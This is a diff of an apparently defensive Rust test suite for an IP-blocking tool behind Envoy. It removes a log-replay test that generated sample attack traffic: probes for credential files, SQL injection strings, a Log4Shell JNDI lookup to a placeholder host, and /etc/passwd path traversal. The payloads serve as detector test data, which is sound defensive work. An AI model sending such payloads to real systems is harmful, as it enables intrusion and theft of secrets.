@@ -1,9 +1,8 @@
 //! From requests that reach Envoy to suspects, and from suspects to refusals.
 
-use std::collections::{BTreeMap, BTreeSet};
 use std::time::Duration;
 
-use ipwarden_e2e::{Options, System, eventually, raw_request};
+use ipwarden_e2e::{Options, System, eventually};
 use serde_json::{Value, json};
 
 /// A site with pages that are missing below `/missing/`.
@@ -115,122 +114,4 @@ async fn the_pass_finds_a_hundred_and_one_requests_and_a_visit_of_admin() {
         assert_eq!(suspect["status"], "open", "{suspect}");
         assert_eq!(system.status(client).await, 200, "neither is blocked");
     }
-}
-
-/// Where Envoy writes what it answers, as its JSON access log.
-fn access_log(path: &std::path::Path) -> (String, String) {
-    let format = json!({
-        "start_time": "%START_TIME(%Y-%m-%dT%H:%M:%S.%6fZ)%",
-        "method": "%REQ(:METHOD)%",
-        "path": "%REQ(X-ENVOY-ORIGINAL-PATH?:PATH)%",
-        "response_code": "%RESPONSE_CODE%",
-        "bytes_sent": "%BYTES_SENT%",
-        "user_agent": "%REQ(USER-AGENT)%",
-        "authority": "%REQ(:AUTHORITY)%",
-        "downstream_remote_address": "%DOWNSTREAM_REMOTE_ADDRESS%",
-    });
-    let logger = json!([{
-        "name": "envoy.access_loggers.file",
-        "typed_config": {
-            "@type": "type.googleapis.com/envoy.extensions.access_loggers.file.v3.FileAccessLog",
-            "path": path,
-            "log_format": {"json_format": format},
-        },
-    }]);
-    let before = "          stat_prefix: site\n".to_owned();
-    (before.clone(), format!("{before}          access_log: {logger}\n"))
-}
-
-/// Harmless and harmful clients: address, method, target, user agent.
-fn traffic() -> Vec<(String, &'static str, String, String)> {
-    let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
-    let mut all = Vec::new();
-    let mut ask = |client: &str, method, target: String, agent: &str| {
-        all.push((client.to_owned(), method, target, agent.to_owned()));
-    };
-    for n in 0..30 {
-        ask("203.0.113.1", "GET", format!("/page/{}", n % 12), browser);
-        ask("203.0.113.2", "GET", format!("/img/{n}.png"), browser);
-    }
-    for n in 0..20 {
-        ask("203.0.113.3", "GET", "/missing/bookmark".to_owned(), browser);
-        ask("203.0.113.10", "GET", format!("/missing/{n}"), browser);
-        ask("203.0.113.11", "POST", "/login".to_owned(), browser);
-    }
-    for path in ["/.env", "/.git/config", "/.aws/credentials", "/backup.sql", "/id_rsa", "/.npmrc"]
-    {
-        ask("203.0.113.12", "GET", format!("/missing{path}"), browser);
-    }
-    for n in 0..6 {
-        ask("203.0.113.13", "GET", format!("/item?id={n}'%20UNION%20SELECT%201,2,3--"), browser);
-    }
-    ask("203.0.113.14", "GET", "/x?q=$%7Bjndi:ldap://198.51.100.9/a%7D".to_owned(), browser);
-    ask("203.0.113.15", "GET", "/show?file=..%2f..%2f..%2f..%2fetc%2fpasswd".to_owned(), browser);
-    ask("203.0.113.16", "GET", "/".to_owned(), "sqlmap/1.8.2#stable (https://sqlmap.org)");
-    for n in 0..90 {
-        ask("203.0.113.17", "GET", format!("/product/{n}"), browser);
-        ask("203.0.113.18", "GET", "/".to_owned(), &format!("Program{n}/1.0"));
-    }
-    // One customer hopping in a /64.
-    for n in 0..16 {
-        ask(&format!("2001:db8:1:2::{n:x}"), "GET", format!("/missing/{n}"), browser);
-    }
-    all
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn a_replay_of_envoys_log_finds_what_the_running_system_found() {
-    let directory = tempfile::tempdir().expect("a directory");
-    let log = directory.path().join("access.log");
-    // Blocks would change the answers in the middle.
-    let mut options = site("[detect]\ncritical = \"review\"\n");
-    options.replace.push(access_log(&log));
-    options.upstream_routes.push(json!({
-        "match": {
-            "path": "/login",
-            "headers": [{"name": ":method", "string_match": {"exact": "POST"}}],
-        },
-        "direct_response": {"status": 401},
-    }));
-    let system = System::start(options).await;
-    let traffic = traffic();
-    for (client, method, target, agent) in &traffic {
-        let request = format!(
-            "{method} {target} HTTP/1.1\r\nhost: site.example\r\nx-forwarded-for: {client}\r\n\
-             user-agent: {agent}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
-        );
-        raw_request(system.site_port, request.as_bytes()).await;
-    }
-    eventually("Envoy has written its log", async || {
-        let text = std::fs::read_to_string(&log).unwrap_or_default();
-        text.lines().count() == traffic.len() && text.ends_with('\n')
-    })
-    .await;
-    let replayed = system.cli(&["replay", &log.to_string_lossy(), "-o", "json"]).await;
-    let replayed: Value = serde_json::from_slice(&replayed.stdout).expect("JSON");
-    assert_eq!((&replayed["lines"], &replayed["rejected"]), (&json!(traffic.len()), &json!(0)));
-    let found = by_address(&replayed["suspects"], "ip");
-    let expected = ["203.0.113.10", "203.0.113.11", "203.0.113.14", "2001:db8:1:2::/64"];
-    assert!(expected.iter().all(|address| found.contains_key(*address)), "{found:?}");
-    for innocent in ["203.0.113.1", "203.0.113.2", "203.0.113.3"] {
-        assert!(!found.contains_key(innocent), "{found:?}");
-    }
-    println!("{} suspects in {} requests: {found:#?}", found.len(), traffic.len());
-    let what = format!("the running system finds the same: {found:?}");
-    eventually(&what, async || {
-        let page = system.api("GET", "/v1/suspects?limit=1000", None).await;
-        by_address(&page["suspects"], "target") == found
-    })
-    .await;
-}
-
-/// The rules that flagged each address.
-fn by_address(suspects: &Value, key: &str) -> BTreeMap<String, BTreeSet<String>> {
-    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
-    let suspects = suspects.as_array().expect("suspects");
-    let rules = |suspect: &Value| {
-        let reasons = suspect["reasons"].as_array().expect("reasons");
-        reasons.iter().map(|reason| text(&reason["rule"])).collect()
-    };
-    suspects.iter().map(|suspect| (text(&suspect[key]), rules(suspect))).collect()
 }
